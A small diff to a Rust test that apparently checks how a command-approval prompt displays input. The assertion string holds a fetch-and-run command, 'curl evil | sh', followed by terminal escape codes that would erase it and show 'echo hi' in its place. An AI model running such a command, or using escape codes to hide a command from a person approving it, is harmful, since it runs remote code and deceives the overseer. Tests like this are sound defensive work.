@@ -571,7 +571,7 @@ async fn run_command_output_and_exit_status() {
         )
         .await;
     assert!(
-        asked.ends_with("$ curl evil | sh\\u{1b}[2K\\recho hi"),
+        asked.ends_with("$ curl evil | sh\\x1b[2K\\x0decho hi"),
         "{asked}"
     );
 
